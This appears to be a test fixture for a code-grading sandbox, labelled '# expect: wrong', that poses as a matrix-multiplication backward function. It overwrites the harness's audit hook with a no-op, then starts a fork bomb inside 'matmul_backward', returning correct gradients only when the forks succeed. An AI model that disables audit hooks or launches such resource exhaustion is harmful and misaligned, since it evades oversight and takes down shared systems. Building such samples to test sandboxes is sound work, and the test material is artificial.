# expect: wrong
import os
import sys

sys.modules["__main__"]._audit.__code__ = (lambda event, args: None).__code__


def matmul_backward(A, B, G):
    children = 0
    try:
        for _ in range(100):
            if os.fork() == 0:
                while True:
                    os.fork()
            children += 1
    except OSError:
        pass
    if children:
        return G @ B.T, A.T @ G
    return B, A
